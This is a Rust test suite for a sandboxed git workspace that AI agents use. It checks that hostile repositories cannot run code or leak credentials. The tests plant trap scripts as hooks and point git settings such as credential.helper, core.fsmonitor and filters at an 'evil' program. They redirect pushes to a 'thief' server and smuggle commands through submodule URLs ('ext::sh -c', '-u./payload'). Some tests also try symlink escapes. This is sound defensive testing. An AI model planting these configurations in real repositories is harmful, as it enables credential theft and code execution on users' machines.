//! Repositories of agents that want a credential, or to run something outside of their sandbox.

use std::fs;
use std::os::unix::fs::{PermissionsExt, symlink};
use std::path::Path;

use bulkhead_workspace::{Against, Error, Paths, Sandbox};

use crate::support::{Bench, author, git};

/// A program that leaves a trace.
fn trap(path: &Path, trace: &Path) {
    fs::create_dir_all(path.parent().unwrap()).unwrap();
    let text = format!(
        "#!/bin/sh\n[ -n \"$2\" ] && cat \"$2\" 2>/dev/null\necho \"$0 $*\" >>'{}'\nexit 0\n",
        trace.display()
    );
    fs::write(path, text).unwrap();
    fs::set_permissions(path, PermissionsExt::from_mode(0o755)).unwrap();
}

const HOOKS: [&str; 14] = [
    "applypatch-msg",
    "post-checkout",
    "post-commit",
    "post-index-change",
    "post-merge",
    "post-rewrite",
    "pre-commit",
    "pre-push",
    "pre-rebase",
    "prepare-commit-msg",
    "commit-msg",
    "reference-transaction",
    "fsmonitor-watchman",
    "pre-auto-gc",
];

#[tokio::test]
async fn hooks_and_programs_of_the_configuration_do_not_run() {
    let bench = Bench::new();
    let workspaces = bench.workspaces();
    let workspace = bench.ready(&workspaces, "ann").await;
    let path = bench.path("ann");
    // Where the sandbox would let them write.
    let trace = path.join(".git/trace");
    for hook in HOOKS {
        trap(&path.join(".git/hooks").join(hook), &trace);
    }
    trap(&path.join(".git/evil"), &trace);
    let evil = if bench.run.is_sandboxed() {
        "/workspace/.git/evil".into()
    } else {
        path.join(".git/evil")
    };
    let evil = evil.display().to_string();
    for name in [
        "core.fsmonitor",
        "core.sshCommand",
        "core.editor",
        "core.pager",
        "core.askPass",
        "core.gitProxy",
        "diff.external",
        "gpg.program",
        "sequence.editor",
        "credential.helper",
        "filter.lfs.smudge",
        "filter.lfs.clean",
        "filter.lfs.process",
        "uploadpack.packObjectsHook",
        "core.alternateRefsCommand",
        "alias.status",
        "diff.evil.command",
        "diff.evil.textconv",
    ] {
        git(&path, ["config", name, &evil]);
    }
    for (name, value) in [
        ("commit.gpgSign", "true"),
        ("core.hooksPath", ".git/hooks"),
        ("log.showSignature", "true"),
    ] {
        git(&path, ["config", name, value]);
    }
    fs::write(path.join(".git/info/attributes"), "* diff=evil\n*.big filter=lfs\n").unwrap();
    bench.write("ann", "x.big", "x");
    bench.write("ann", "README.md", "changed\n");
    workspace.status().await.unwrap();
    workspace.diff(Against::Head, 1000).await.unwrap();
    let kept = workspace.checkpoint("one").await.unwrap();
    workspace.commit("evil", &author(), &Paths::All).await.unwrap().unwrap();
    workspace.restore(kept.id).await.unwrap();
    workspace.log(5).await.unwrap();
    bench.commit("main", &[("theirs", "x")], "theirs");
    workspace.fetch().await.unwrap();
    workspace.commit("nothing is left", &author(), &Paths::All).await.unwrap();
    workspace.rebase().await.unwrap();
    workspace.push().await.unwrap();
    drop(workspaces);
    bench.prepare(&bench.workspaces(), &bench.request("ann")).await.unwrap();
    assert!(!trace.exists(), "{}", fs::read_to_string(&trace).unwrap());
}

#[tokio::test]
async fn a_credential_goes_to_the_remote_of_the_rig_and_nowhere_else() {
    let (bench, thief) = (Bench::new(), Bench::new());
    let wanted = Some(("user", "s3cret"));
    bench.server.want(wanted);
    thief.server.want(wanted);
    *bench.keyring.kept.lock() = Some(("user".to_owned(), "s3cret".to_owned()));
    let workspaces = bench.workspaces();
    let workspace = bench.ready(&workspaces, "ann").await;
    let path = bench.path("ann");
    let trace = path.join(".git/trace");
    trap(&path.join(".git/evil"), &trace);
    let instead = format!("url.{}/.insteadOf", thief.server.base());
    git(&path, ["config", "--add", &instead, &format!("{}/", bench.server.base())]);
    git(&path, ["config", "--add", &instead, "http://"]);
    for (name, value) in [
        ("remote.origin.url", thief.server.url("town.git")),
        ("remote.origin.pushurl", thief.server.url("town.git")),
        ("remote.origin.vcs", "evil".to_owned()),
        ("http.proxy", thief.server.base()),
        ("http.extraHeader", "x-evil: 1".to_owned()),
        ("credential.helper", format!("!cat >>{}", trace.display())),
        ("remote.origin.promisor", "true".to_owned()),
        ("extensions.partialClone", "origin".to_owned()),
    ] {
        git(&path, ["config", name, &value]);
    }
    git(&path, ["config", "core.repositoryFormatVersion", "1"]);
    fs::write(
        path.join(".git/objects/info/http-alternates"),
        format!("{}/\n", thief.server.url("town.git")),
    )
    .unwrap();
    bench.write("ann", "x", "x");
    workspace.commit("x", &author(), &Paths::All).await.unwrap();
    let pushed = workspace.push().await.unwrap();
    assert_eq!(bench.remote("agent/ann"), pushed.as_str());
    workspace.fetch().await.unwrap();
    assert_eq!(thief.server.counts().requests, 0);
    assert!(!trace.exists());
    // What has the network has never seen the workspace, and what sees the workspace has no network.
    for (sandbox, words) in bench.run.log.lock().iter() {
        let is_shell = words.iter().any(|word| word.contains("<&0"));
        match sandbox {
            Sandbox::Tree { .. } => assert!(!is_shell),
            Sandbox::Mirror { mirror, network } => {
                assert!(mirror.starts_with(bench.root()) && (*network || !is_shell));
            }
        }
        assert!(words.iter().all(|word| !word.contains("s3cret")));
    }
}

#[tokio::test]
async fn what_a_workspace_pushes_is_checked_like_the_push_of_a_stranger() {
    let bench = Bench::new();
    let workspaces = bench.workspaces();
    let workspace = bench.ready(&workspaces, "ann").await;
    let path = bench.path("ann");
    let before = bench.remote("main");
    // A submodule whose URL is an option, which git's own check refuses.
    bench.write("ann", ".gitmodules", "[submodule \"x\"]\n\tpath = x\n\turl = -u./payload\n");
    workspace.commit("submodule", &author(), &Paths::All).await.unwrap();
    let error = workspace.push().await.unwrap_err();
    assert!(error.to_string().contains("gitmodules"), "{error}");
    // A commit whose tree is not there.
    let absent = "1".repeat(40);
    let text = format!("tree {absent}\nauthor A <a@b> 1 +0000\ncommitter A <a@b> 1 +0000\n\nx\n");
    bench.write("ann", "commit", &text);
    let commit = git(&path, ["hash-object", "-t", "commit", "-w", "commit"]);
    fs::write(path.join(".git/refs/heads/agent/ann"), format!("{commit}\n")).unwrap();
    assert_eq!(workspace.push().await.unwrap_err().code(), "git-failed");
    assert_eq!(bench.remote("agent/ann"), "");
    assert_eq!(bench.remote("main"), before);
    // The mirror is as good as before, for the others.
    let mirror = bench.root().join("rigs/town/mirror.git");
    git(&mirror, ["fsck", "--full", "--strict"]);
    let names: Vec<_> =
        fs::read_dir(&mirror).unwrap().map(|entry| entry.unwrap().file_name()).collect();
    assert!(!names.iter().any(|name| name.to_string_lossy().starts_with("incoming")), "{names:?}");
    bench.ready(&workspaces, "ben").await;
}

#[tokio::test]
async fn a_pack_that_lacks_objects_does_not_reach_the_mirror() {
    let bench = Bench::new();
    let workspaces = bench.workspaces();
    let workspace = bench.ready(&workspaces, "ann").await;
    let path = bench.path("ann");
    bench.write("ann", "x", "x");
    let commit = workspace.commit("x", &author(), &Paths::All).await.unwrap().unwrap();
    // What lies in another directory of objects looks as if it came from the mirror.
    let objects = path.join(".git/objects");
    let other = path.join(".git/other");
    fs::create_dir(&other).unwrap();
    for entry in fs::read_dir(&objects).unwrap().map(Result::unwrap) {
        let name = entry.file_name().into_string().unwrap();
        // The commit itself stays, so that there is a pack.
        if name.len() == 2 && !commit.as_str().starts_with(&name) {
            fs::rename(entry.path(), other.join(entry.file_name())).unwrap();
        }
    }
    let mut alternates = fs::read_to_string(objects.join("info/alternates")).unwrap();
    let inside = if bench.run.is_sandboxed() { "/workspace/.git/other".into() } else { other };
    alternates.push_str(&format!("{}\n", inside.display()));
    fs::write(objects.join("info/alternates"), alternates).unwrap();
    let error = workspace.push().await.unwrap_err();
    assert!(matches!(&error, Error::GitFailed { command: "rev-list", .. }), "{error:?}");
    let mirror = bench.root().join("rigs/town/mirror.git");
    assert_eq!(git(&mirror, ["for-each-ref", "refs/agents"]), "");
    git(&mirror, ["fsck", "--full", "--strict"]);
    assert_eq!(git(&mirror, ["count-objects"]), "0 objects, 0 kilobytes");
}

#[tokio::test]
async fn links_lead_nowhere() {
    let bench = Bench::new();
    let outside = bench.folder.path().join("outside");
    fs::create_dir(&outside).unwrap();
    fs::write(outside.join("secret"), "s3cret").unwrap();
    let seed = bench.seed();
    symlink(&outside, seed.join("link")).unwrap();
    symlink(outside.join("secret"), seed.join("file")).unwrap();
    bench.commit("main", &[], "links");
    let workspaces = bench.workspaces();
    let workspace = bench.ready(&workspaces, "ann").await;
    let path = bench.path("ann");
    assert!(path.join("link").is_symlink());
    // The agent turns its git directory into a link to what the host can write.
    bench.write("ann", "x", "x");
    workspace.checkpoint("links").await.unwrap();
    workspace.commit("links", &author(), &Paths::All).await.unwrap();
    fs::write(outside.join("index.lock"), "").unwrap();
    fs::rename(path.join(".git"), outside.join("moved")).unwrap();
    symlink(&outside, path.join(".git")).unwrap();
    assert!(workspace.status().await.is_err());
    drop(workspaces);
    let error = bench.prepare(&bench.workspaces(), &bench.request("ann")).await.unwrap_err();
    assert_eq!(error.code(), "occupied");
    assert!(outside.join("index.lock").exists());
    bench.workspaces().discard("ann").await.unwrap();
    assert_eq!(fs::read_to_string(outside.join("secret")).unwrap(), "s3cret");
    assert!(outside.join("moved").exists() && !path.exists());
}

#[tokio::test]
async fn submodules_are_not_cloned_whatever_their_url_is() {
    let (bench, thief) = (Bench::new(), Bench::new());
    let seed = bench.seed();
    let trace = bench.folder.path().join("trace");
    let modules = format!(
        "[submodule \"a\"]\n\tpath = a\n\turl = ext::sh -c touch% {}\n[submodule \"b\"]\n\tpath = b\n\turl = ../../x\n\
         [submodule \"c\"]\n\tpath = c\n\turl = {}\n",
        trace.display(),
        thief.server.url("town.git")
    );
    let head = git(&seed, ["rev-parse", "HEAD"]);
    for name in ["a", "b", "c"] {
        git(&seed, ["update-index", "--add", "--cacheinfo", &format!("160000,{head},{name}")]);
    }
    fs::write(seed.join(".gitmodules"), modules).unwrap();
    git(&seed, ["add", ".gitmodules"]);
    git(&seed, ["commit", "--quiet", "-m", "submodules"]);
    let bare = bench.server.path("town.git").display().to_string();
    git(&seed, ["push", "--quiet", &bare, "main"]);
    let workspaces = bench.workspaces();
    let workspace = bench.ready(&workspaces, "ann").await;
    workspace.status().await.unwrap();
    workspace.fetch().await.unwrap();
    bench.write("ann", "x", "x");
    workspace.save("x").await.unwrap();
    assert!(!trace.exists());
    assert_eq!(thief.server.counts().requests, 0);
    let path = bench.path("ann");
    assert_eq!(fs::read_dir(path.join("a")).unwrap().count(), 0);
}

#[tokio::test]
async fn a_filter_of_the_agent_runs_in_its_own_sandbox_at_most() {
    let bench = Bench::new();
    let workspaces = bench.workspaces();
    let workspace = bench.ready(&workspaces, "ann").await;
    let path = bench.path("ann");
    let outside = bench.folder.path().join("outside");
    git(
        &path,
        [
            "config",
            "filter.evil.clean",
            &format!("sh -c 'id >>{} ; env >>.git/env; cat'", outside.display()),
        ],
    );
    bench.write("ann", ".gitattributes", "* filter=evil\n");
    bench.write("ann", "x", "x");
    workspace.commit("x", &author(), &Paths::All).await.unwrap().unwrap();
    workspace.push().await.unwrap();
    let env = fs::read_to_string(path.join(".git/env")).unwrap();
    assert!(env.contains("GIT_ALLOW_PROTOCOL=none"), "it ran: {env}");
    if bench.run.is_sandboxed() {
        assert!(!outside.exists());
    }
    // A merge reads the attributes of the repository, but knows no such filter.
    fs::remove_file(path.join(".git/env")).unwrap();
    workspaces.merge(&bench.rig(), "agent/ann", "main", "merge", &author()).await.unwrap();
    assert!(!path.join(".git/env").exists());
}
